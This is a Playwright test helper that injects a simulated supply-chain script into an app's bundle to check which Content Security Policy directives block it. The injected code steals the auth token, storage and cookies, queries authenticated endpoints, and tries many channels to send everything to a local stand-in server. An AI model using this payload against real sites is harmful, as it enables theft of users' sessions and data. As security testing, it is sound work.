import { once } from 'node:events'
import { createServer } from 'node:http'
import { api } from '@bidwell/contract'
import type { Page } from '@playwright/test'
import { listen } from '../installation/listen.ts'

/** What a stranger's script reached in the page of a user who is signed in. */
type Loot = {
  /** What it could read: all that the browser keeps, and the answers to the calls that read. */
  read: string
  /** How many of these calls succeeded. */
  answered: number
  /** The ways to run text as code or markup that worked. */
  ran: string[]
}

/** The calls that read something of a user and need no record's number. */
const READS = Object.values(api)
  .filter(
    ({ method, path, access }) => method === 'GET' && access !== 'anyone' && access !== 'admin' && !/:/.test(path),
  )
  .map(({ path }) => path)

/** A stranger's server, and what has reached it. Disposing stops it. */
export async function startStranger() {
  const requests: string[] = []
  const server = createServer((request, response) => {
    requests.push(`${request.method} ${request.url}`)
    response.setHeader('access-control-allow-origin', '*').end()
  })
  const port = await listen(server)
  return {
    url: `http://127.0.0.1:${port}`,
    requests,
    async [Symbol.asyncDispose]() {
      server.closeAllConnections()
      server.close()
      await once(server, 'close')
    },
  }
}

/**
 * Opens a page of the application with a stranger's script in one of its files, as if a library had been poisoned. The
 * script takes what it can and tries to send it to the stranger.
 */
export async function openPoisoned(page: Page, path: string, strangerUrl: string): Promise<Loot> {
  const script = `globalThis.loot = (${intrude.toString()})(${JSON.stringify({ strangerUrl, reads: READS })})`
  await page.route('**/assets/index-*.js', async (route) => {
    const response = await route.fetch()
    await route.fulfill({ response, body: `${await response.text()}\n${script}` })
  })
  await page.goto(path)
  return page.evaluate<Loot>('loot')
}

/** The directives of the security policy that have refused something to the stranger's script. */
export const readRefusals = (page: Page) => page.evaluate<string[]>('[...refusals].toSorted()')

/** Runs in the page, so it uses nothing of this file. */
async function intrude({ strangerUrl, reads }: { strangerUrl: string; reads: string[] }): Promise<Loot> {
  const refusals = new Set<string>()
  Reflect.set(globalThis, 'refusals', refusals)
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refusals.add(effectiveDirective))
  await new Promise((resolve) => window.addEventListener('load', resolve))

  const token = localStorage.getItem('auth_token') ?? ''
  const answers = await Promise.all(
    reads.map(async (path) => {
      const answer = await fetch(`/api${path}`, { headers: { authorization: `Bearer ${token}` } })
      return { ok: answer.ok, text: await answer.text() }
    }),
  )
  const read = JSON.stringify([localStorage, sessionStorage, document.cookie, answers])

  const to = (kind: string) => `${strangerUrl}/${kind}?${token}`
  /** Adds an element that loads or sends by itself; its address is in the attribute. */
  const load = (kind: string, attribute: string, rel = '') => {
    const element = document.createElement(kind)
    if (rel !== '') element.setAttribute('rel', rel)
    element.setAttribute(attribute, to(`${kind}-${rel}`))
    document.body.append(element)
    if (element instanceof HTMLFormElement) element.submit()
  }
  const ways: (() => unknown)[] = [
    () => fetch(to('fetch'), { mode: 'no-cors', method: 'POST', body: read }),
    () => navigator.sendBeacon(to('beacon'), read),
    () => new WebSocket(to('socket').replace('http', 'ws')),
    () => new EventSource(to('events')),
    () => load('img', 'src'),
    () => load('video', 'src'),
    () => load('link', 'href', 'stylesheet'),
    () => load('link', 'href', 'prefetch'),
    () => load('iframe', 'src'),
    () => load('form', 'action'),
    () => load('script', 'src'),
    () => import(to('module')),
    () => new Worker(to('worker')),
    () => new FontFace('stranger', `url(${to('font')})`).load(),
  ]
  for (const way of ways) {
    try {
      await way()
    } catch {
      // Refused.
    }
  }

  const texts: [name: string, run: () => unknown][] = [
    ['eval', () => Reflect.get(globalThis, 'eval')('1')],
    ['new Function', () => Reflect.construct(Function, ['return 1'])()],
    ['innerHTML', () => (document.createElement('div').innerHTML = '<b>text</b>')],
    ['a policy of its own', () => Reflect.get(globalThis, 'trustedTypes').createPolicy('stranger', {})],
  ]
  const ran = texts.flatMap(([name, run]) => {
    try {
      run()
      return [name]
    } catch {
      return []
    }
  })
  return { read, answered: answers.filter(({ ok }) => ok).length, ran }
}
